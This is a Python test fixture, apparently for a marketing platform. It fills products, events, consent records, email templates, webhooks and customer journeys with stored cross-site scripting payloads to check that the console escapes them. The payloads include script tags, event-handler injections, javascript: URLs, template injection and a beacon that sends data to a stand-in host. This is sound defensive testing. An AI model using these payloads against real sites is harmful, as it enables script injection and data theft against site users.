"""A shop whose data was written by somebody who wants to run code in the console."""

import csv
import json
from pathlib import Path
from typing import Any

from installation import Installation

ELSEWHERE = "https://elsewhere.invalid"
_RUN = f"executed(document.URL);new Image().src='{ELSEWHERE}/stolen'"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"</title></textarea></style></script><script src={ELSEWHERE}/a.js></script>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<a href="javascript:{_RUN}">Look</a><img src={ELSEWHERE}/seen.png>',
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "{{constructor.constructor('executed(1)')()}}${executed(1)}",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
)
WORST = PAYLOADS[1]
USER = "user <script>executed(1)</script>"
PRODUCT = "P'\"><svg onload=executed(1)>"
EVENT = "Bought <img src=x onerror=executed(1)>"
# What is not well-formed is refused when the letter is saved; this much is taken.
MJML = f"""<mjml><mj-body><mj-section><mj-column>
<mj-raw>{PAYLOADS[0]}{PAYLOADS[4]}<img src="x" onerror="{_RUN}" /></mj-raw>
<mj-text>{{{{ customer.first_name }}}} <a href="javascript:executed(1)">Look</a></mj-text>
<mj-image src="{ELSEWHERE}/open.png" /><mj-button href="javascript:executed(1)">Buy</mj-button>
<mj-button href="{{{{ customer.website }}}}">Visit</mj-button>
<mj-text><a href="{{{{ unsubscribe_url }}}}">Unsubscribe</a></mj-text>
</mj-column></mj-section></mj-body></mjml>"""

STAGES = {
    "id": "worst",
    "name_ja": WORST[:60],
    "name_en": PAYLOADS[0][:60],
    "stages": [
        {
            "id": stage,
            "name_ja": WORST[:60],
            "name_en": PAYLOADS[1][:60],
            "evidence": [{"type": "said", "trait": "hobby", "value": f"{stage} {WORST}"[:60]}],
        }
        for stage in ("one", "two")
    ],
}


def fill(shop: Installation, folder: Path) -> dict[str, str]:
    """Put hostile data wherever data can be put; return the ids of what was made."""
    files = (("products", _products), ("events", _messages), ("consents", _consents))
    for kind, write in files:
        shop.run("import", kind, str(write(folder)), "--quiet")
    shop.settle()
    segment = _choose_people(shop)
    letter = _letter(segment)
    offer = _set_up(shop)
    draft = shop.post("/api/broadcasts", letter)["id"]
    sent = shop.post("/api/broadcasts", letter)["id"]
    shop.post(f"/api/broadcasts/{sent}/send")
    shop.wait(lambda: shop.get(f"/api/broadcasts/{sent}/progress")["state"] == "done")
    journey = _begin_journey(shop, letter)
    shop.settle()
    return {
        "journey": journey,
        "segment": segment,
        "stages": "worst",
        "offer": offer,
        "draft": draft,
        "sent": sent,
        "mail": shop.get("/api/inbox")[0]["id"],
        "profile": shop.get("/api/people", q=USER)["people"][0]["id"],
    }


def _choose_people(shop: Installation) -> str:
    """Store a segment, and personas made of it; return the segment's id."""
    bought = {"type": "event_count", "event": EVENT, "count": {"at_least": 1}}
    described = {"name": WORST, "description": PAYLOADS[0], "condition": bought}
    segment_id = str(shop.post("/api/segments", described)["id"])
    rules = {
        "rules": [{"name": WORST, "segment_id": segment_id}],
        "default_name": PAYLOADS[0],
    }
    shop.client.put("/api/personas", json=rules).raise_for_status()
    return segment_id


def _letter(segment_id: str) -> dict[str, Any]:
    return {
        "name": WORST,
        "segment": {"type": "segment", "segment": segment_id},
        "sender": {"from_address": "shop@example.com", "from_name": "<b onclick=executed(1)>"},
        "template": {
            "default_language": "en",
            "variants": {
                "en": {"subject": f"{PAYLOADS[0]} {{{{ customer.first_name }}}}", "mjml": MJML}
            },
        },
    }


def _set_up(shop: Installation) -> str:
    """Name everything else that a shop names; return the id of an offer."""
    shop.post("/api/sources", {"name": WORST})
    shop.post("/api/keys", {"name": WORST[:100]})
    shop.post("/api/webhooks", {"name": WORST[:80], "url": "https://93.184.216.34/'><b>"})
    shop.post("/api/topics", {"id": "worst", "name_ja": WORST[:80], "name_en": WORST[:80]})
    shop.client.put("/api/life-stages/worst", json=STAGES).raise_for_status()
    free = {"name": WORST[:100], "benefit": {"kind": "free_shipping"}, "codes": "uploaded"}
    return str(shop.post("/api/offers", free)["id"])


def _begin_journey(shop: Installation, letter: dict[str, Any]) -> str:
    """Write a journey in which every word that can be chosen is hostile, and let people in."""
    steps = [
        {"type": "message", "id": "m", "label": WORST[:200], "template": letter["template"],
         "next": "b"},
        {"type": "branch", "id": "b", "label": PAYLOADS[0][:200], "otherwise": "e",
         "ways": [{"id": "w", "when": letter["segment"], "label": PAYLOADS[1][:200], "next": "e"}]},
        {"type": "end", "id": "e", "label": PAYLOADS[2][:200]},
    ]  # fmt: skip
    definition = {
        "name": WORST[:200],
        "description": PAYLOADS[0],
        "trigger": {"type": "event", "events": {"event": EVENT}},
        "start": "m",
        "steps": steps,
        "rules": {"goal": {"events": {"event": EVENT}}},
    }
    journey_id = str(shop.post("/api/journeys", {"definition": definition})["journey_id"])
    trials = f"/api/journeys/{journey_id}/simulations"
    shop.post(trials, {"since": "2025-05-20T00:00:00Z", "until": "2025-06-10T00:00:00Z"})
    shop.wait(lambda: shop.get(trials)[0]["state"] == "done")
    return journey_id


def _products(folder: Path) -> Path:
    path = folder / "products.csv"
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(
            ["product_id", "name", "category", "brand", "price", "currency", "image_url", "url"]
        )
        for place, payload in enumerate(PAYLOADS):
            id_ = f"P{place}" if place else PRODUCT
            writer.writerow([id_, payload, payload, payload, 100, "JPY", PAYLOADS[6], PAYLOADS[6]])
    return path


def _consents(folder: Path) -> Path:
    path = folder / "consents.csv"
    columns = (
        "customer_id", "purpose", "channel", "status", "wording_version", "source", "proof", "at",
    )  # fmt: skip
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(columns)
        for purpose in ("marketing", "tracking"):
            writer.writerow(
                [USER, purpose, "email", "granted", *PAYLOADS[:3], "2025-01-10T09:00:00Z"]
            )
    return path


def _messages(folder: Path) -> Path:
    traits = {f"trait {place} {one}": one for place, one in enumerate(PAYLOADS)}
    traits |= {
        "email": "mallory@example.com",
        "first_name": WORST,
        "last_name": PAYLOADS[0],
        "city": PAYLOADS[2],
        "avatar": PAYLOADS[6],
        "website": PAYLOADS[6],
        "company": {"id": WORST, "name": WORST},
    }
    page = {"url": PAYLOADS[6], "title": PAYLOADS[0], "referrer": PAYLOADS[7], "path": WORST}
    lines: list[dict[str, Any]] = [
        {"type": "identify", "traits": traits},
        {"type": "page", "name": WORST, "properties": page, "context": {"page": page}},
    ]
    for place, payload in enumerate(PAYLOADS):
        item = {
            "product_id": PRODUCT,
            "name": payload,
            "category": payload,
            "price": 1,
            "quantity": 1,
        }
        properties = {"query": payload, payload: payload, "products": [item], **item}
        for event in (EVENT, payload, "Product Viewed", "Order Completed", "Product Added"):
            order = {"order_id": f"{place} {payload}", "revenue": 1, "currency": "JPY"}
            lines.append({"type": "track", "event": event, "properties": properties | order})
    path = folder / "messages.jsonl"
    agent = {"userAgent": WORST, "campaign": {"name": WORST, "source": WORST}}
    path.write_text(
        "\n".join(
            json.dumps(
                {"userId": USER, "messageId": f"m{place} {WORST}"[:100], "context": agent}
                | {"timestamp": f"2025-06-01T10:{place % 60:02}:00Z"}
                | line
            )
            for place, line in enumerate(lines)
        )
    )
    return path
